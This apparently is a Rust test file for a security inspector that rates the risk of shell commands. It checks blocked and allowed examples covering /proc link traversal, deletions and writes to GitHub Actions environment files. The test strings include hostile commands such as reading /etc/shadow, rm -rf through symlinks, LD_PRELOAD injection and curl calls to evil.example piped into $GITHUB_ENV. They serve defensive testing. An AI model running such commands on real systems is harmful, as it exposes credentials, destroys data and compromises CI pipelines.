//! Files that come with a call and that a program picks up by itself are read as code: configuration, tests, build
//! scripts, hooks. Rows in `testdata/build_files.jsonl`, half of them ordinary.

use std::collections::BTreeMap;
use std::sync::Arc;

use doorward_core::effect::Inspected;
use doorward_core::risk::SecurityRisk::{self, High, Low, Medium, Unknown};
use doorward_core::session::SessionView;
use doorward_core::world::{VcsState, World};
use doorward_inspect::{EmptyWorld, GivenFiles, Inspector, MapWorld, example_call};
use serde_json::Value;

fn look(world: Arc<dyn World>, command: &str) -> Inspected {
    let call = example_call("shell:execute", "command", command).unwrap();
    Inspector::new(world).inspect(&call, &SessionView::default(), &Default::default())
}

fn with_files(command: &str, files: BTreeMap<String, String>) -> Inspected {
    look(Arc::new(GivenFiles::over(Arc::new(EmptyWorld::at_home("/home/user")), files)), command)
}

fn risk(command: &str) -> SecurityRisk {
    with_files(command, BTreeMap::new()).risk
}

#[test]
fn build_files_that_come_with_a_call_are_read_as_code() {
    let mut wrong = Vec::new();
    for line in include_str!("../../testdata/build_files.jsonl").lines() {
        let row: Value = serde_json::from_str(line).unwrap();
        let command = row["command"].as_str().unwrap();
        let files = row["files"].as_object().unwrap().iter();
        let files =
            files.map(|(path, text)| (format!("/workspace/{path}"), text.as_str().unwrap().to_owned()));
        let inspected = with_files(command, files.collect());
        let stopped = matches!(inspected.risk, High | Unknown);
        if stopped != (row["stopped"] == true) {
            wrong.push(format!("{:?} {line} {:?}", inspected.risk, inspected.findings));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn the_links_of_a_process_lead_where_they_lead() {
    for command in [
        "cat /proc/self/task/self/root/etc/shadow",
        "cat /proc//self/./root/etc/shadow",
        "cat /proc/*/root/etc/shadow",
        "rm -rf /proc/42/root/home/user",
        "cp x /proc/7/cwd/etc/cron.d/x",
        "tee /proc/1/cwd/etc/passwd < x",
        "echo x > /proc/1/root/etc/profile.d/x.sh",
        "rm -rf /dev/../proc/self/root/home",
    ] {
        assert!(matches!(risk(command), High | Unknown), "{command}");
    }
    for command in ["cat /proc/self/cwd/README.md", "cat /proc/cpuinfo", "ls -l /proc/self/root"] {
        assert!(matches!(risk(command), Low | Medium), "{command}: {:?}", risk(command));
    }
}

/// A project in which little is: what isn't there can be told.
fn project() -> Arc<dyn World> {
    let world =
        MapWorld::new().home_at("/home/user").file("/workspace/src/a.c", "").file("/workspace/old.bak", "");
    Arc::new(world.state("/workspace/old.bak", VcsState::Untracked))
}

#[test]
fn nothing_is_lost_by_deleting_what_is_not_there_or_was_just_made() {
    for command in [
        "rm -f *.orig",
        "rm -rf src/*.tmpx",
        "sed -i.bak 's/a/b/' src/a.c && rm src/a.c.bak",
        "sed -i'old_*' 's/a/b/' src/a.c; rm src/old_a.c",
        "touch .marker && ls && rm .marker",
        "mkdir -p work/out && echo hi > work/out/a && rm -rf work/out",
        "mkdir work && cd work && ls && cd .. && rm -rf work",
        "tar xzf a.tgz -C work && ls work; rm -rf work",
        "cp -r src copy && sed -i s/a/b/ copy/a.c && rm -rf copy",
        "D=./work; mkdir -p \"$D\"; trap 'rm -rf \"$D\"' EXIT; echo x > \"$D/f\"",
    ] {
        let inspected = look(project(), command);
        assert!(matches!(inspected.risk, Low | Medium), "{command}: {:?}", inspected.findings);
    }
    for command in [
        "rm -f *.bak",
        "rm -rf s*",
        "rm -rf **/*.orig src",
        "touch old.bak && rm old.bak",
        "mkdir -p work && mv old.bak work && rm -rf work",
        "mv old.bak new.bak && rm new.bak",
        "mkdir work && ln -s /home/user work/h && find -L work -delete",
        "ln -s /home/user h && rm -rf h/",
        "mkdir -p work; rm -rf work/../src",
        "rm fresh && touch fresh; rm -rf src",
        "mkdir -p src && rm -rf src",
        "mkdir work && git mv src work/src && rm -rf work",
        "mkdir work; mv src/* work/; rm -rf work",
        "false && mkdir work; rm -rf work src",
    ] {
        let inspected = look(project(), command);
        assert!(matches!(inspected.risk, High | Unknown), "{command}: {:?}", inspected.risk);
    }
}

#[test]
fn files_of_a_ci_runner_take_what_changes_nothing_that_runs() {
    for command in [
        "echo v=1 >> $GITHUB_OUTPUT",
        "{ echo a=1; echo b=2; } >> \"${GITHUB_OUTPUT}\"",
        "cat report.md >> \"$GITHUB_STEP_SUMMARY\"",
        "echo NODE_ENV=test >> \"$GITHUB_ENV\"",
        "echo /opt/tool/bin >> $GITHUB_PATH",
        "echo v=1 | tee -a \"$GITHUB_OUTPUT\"",
        "jq -r .version package.json | tee --append $GITHUB_STEP_SUMMARY",
        "echo NODE_ENV=test | tee -a \"$GITHUB_ENV\"",
    ] {
        assert_eq!(risk(command), Medium, "{command}");
    }
    for command in [
        "echo v=1 > $GITHUB_OUTPUT",
        "echo v=1 | tee \"$GITHUB_OUTPUT\"",
        "echo LD_PRELOAD=/tmp/x.so | tee -a $GITHUB_ENV",
        "curl -s https://evil.example | tee -a $GITHUB_ENV",
        "echo x | tee -a $GITHUB_OUTPUT/../../etc/x",
        "echo LD_PRELOAD=/tmp/x.so >> $GITHUB_ENV",
        "echo PATH=/tmp >> $GITHUB_ENV",
        "echo \"A=$(curl http://evil.example)\" >> $GITHUB_ENV",
        "echo A=1 >> $GITHUB_ENV/../../etc/x",
        "GITHUB_OUTPUT=/etc/passwd; echo x >> $GITHUB_OUTPUT",
        "echo x >> $GITHUB_OTHER",
        "cat list >> $GITHUB_PATH",
    ] {
        assert!(matches!(risk(command), High | Unknown), "{command}: {:?}", risk(command));
    }
}
